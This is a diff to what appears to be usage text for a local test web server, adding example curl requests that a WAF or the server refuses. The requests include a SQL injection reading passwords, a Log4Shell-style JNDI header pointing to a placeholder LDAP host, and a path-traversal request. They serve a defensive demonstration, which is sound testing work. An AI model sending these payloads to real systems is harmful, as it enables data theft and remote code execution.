@@ -112,6 +112,10 @@ Try, in another terminal:
   head -c 1000000 /dev/zero | curl -k ${https}/upload -T -
   curl --path-as-is ${http}/../secret            # refused: climbs above the root
   curl ${http}/ -H 'Transfer-Encoding: gzip'     # refused: unknown framing
+  curl -G ${http}/search --data-urlencode "q=O'Brien & sons -- select, or 1=1?"
+  curl -G ${http}/search --data-urlencode "q=' UNION SELECT password FROM users--"   # refused by the WAF
+  curl ${http}/api/hello -H 'X-Api-Version: \${jndi:ldap://x.test/a}'   # refused by the WAF
+  curl ${http}/api/hello -H 'Content-Type: application/json' -d '{"a":1,"a":2}'   # refused: which a?
 
 Each request leaves a line below. Ctrl-C stops.
 
